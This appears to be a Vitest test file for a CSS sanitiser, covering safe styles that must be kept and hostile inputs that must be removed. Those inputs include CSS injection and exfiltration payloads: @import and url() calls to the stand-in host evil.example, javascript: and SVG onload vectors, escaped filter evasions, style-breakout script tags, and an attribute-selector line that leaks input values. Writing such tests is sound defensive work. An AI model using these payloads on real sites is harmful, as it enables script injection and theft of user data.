import { describe, expect, it } from 'vitest';
import { sanitiseCss } from './sanitise-css.ts';

const own = `/uploads/${'ab'.repeat(16)}.jpg`;

describe('sanitiseCss keeps', () => {
  it.each([
    'p { color: red; }',
    '.hero > h2:hover, a::before { margin: 0 auto; content: "→ \\2022"; }',
    '@media (max-width: 40em) { .hero { padding: calc(1rem + 2vw); } }',
    '@media (width < 600px) { p { color: blue; } }',
    '@supports (display: grid) { .row { display: grid; grid-template-columns: repeat(2, minmax(0, 1fr)); } }',
    '@keyframes glow { from { opacity: 0; } 50% { opacity: .5; } to { opacity: 1; } }',
    `.hero { background: url("${own}") center / cover; }`,
    ':is(h2, h3) { --gap: 4px; margin-top: var(--gap); }',
    'p { position: sticky; top: 0; z-index: 10; }',
    'p { background-image: linear-gradient(90deg, rgb(0 0 0 / .4), transparent); font: 700 1rem/1.5 "Noto Sans", sans-serif; }',
  ])('%s', (css) => expect(sanitiseCss(css)).toBe(css));
});

describe('sanitiseCss takes out', () => {
  it.each([
    '@import url(https://evil.example/x.css);',
    "@import '/uploads/x.css';",
    '@\\69mport "x";',
    '@font-face { font-family: x; src: url(https://evil.example/f.woff); }',
    '@charset "utf-7";',
    '@namespace svg url(http://www.w3.org/2000/svg);',
    'p { background: url(https://evil.example/x); }',
    'p { background: url(//evil.example/x); }',
    'p { background: url(javascript:alert(1)); }',
    'p { background: url(data:image/svg+xml,<svg onload=alert(1)>); }',
    'p { background: \\75rl(https://evil.example/x); }',
    'p { background: u\\72l(https://evil.example/x); }',
    `p { background: url(${own}), url(https://evil.example/x); }`,
    'p { background: image-set("https://evil.example/x" 1x); }',
    'p { background: -webkit-image-set(url(https://evil.example/x) 1x); }',
    'p { background: src("https://evil.example/x"); }',
    'p { background: image("https://evil.example/x"); }',
    'p { background: cross-fade(url(https://evil.example/x), red); }',
    'p { width: expression(alert(1)); }',
    'p { width: ex/**/pression(alert(1)); }',
    'p { behavior: url(x.htc); }',
    'p { -moz-binding: url(https://evil.example/x.xml#a); }',
    'p { position: fixed; }',
    'p { position: FIXED; }',
    'p { position: var(--where); }',
    'p { z-index: 99999; }',
    'p { cursor: url(https://evil.example/x), auto; }',
    'p { content: "</style><script>alert(1)</script>"; }',
    '</style><script>alert(1)</script>',
    'p { color: red</style><script>alert(1)</script>; }',
    '<!-- p { color: red; } -->',
    'input[value^="a"] { background: url(https://evil.example/?a); }',
    'p { -webkit-user-modify: read-write; }',
    'p { color: "unclosed; }',
    'p { { }',
    '@media screen { @import url(https://evil.example/x.css); }',
    '@media url(https://evil.example) { p { color: red; } }',
    '@layer x; @container (width > 1px) { }',
    '@page { size: a4; }',
    '\u0000',
    '~ .shell { display: none; }',
    '& { display: none; }',
  ])('%s', (css) => expect(sanitiseCss(css)).toBe(''));

  it('and leaves its neighbours', () => {
    expect(sanitiseCss('p { position: fixed; color: red; } @import "x"; a { color: blue; }')).toBe(
      'p { color: red; } a { color: blue; }',
    );
  });
});

describe('a scope', () => {
  it('stands before every selector', () => {
    expect(
      sanitiseCss('h2, body .x { color: red; } body { color: blue; } @media print { p { color: red; } }', {
        scope: '.own',
      }),
    ).toBe('.own h2, .own .x { color: red; } .own { color: blue; } @media print { .own p { color: red; } }');
  });
  it('does not reach into keyframes', () => {
    expect(sanitiseCss('@keyframes a { from { opacity: 0; } }', { scope: '.own' })).toBe(
      '@keyframes a { from { opacity: 0; } }',
    );
  });
});

it('cleaning twice changes nothing', () => {
  const css = '.a { color: red; position: fixed; } @media print { .a { color: blue } }';
  expect(sanitiseCss(sanitiseCss(css))).toBe(sanitiseCss(css));
});
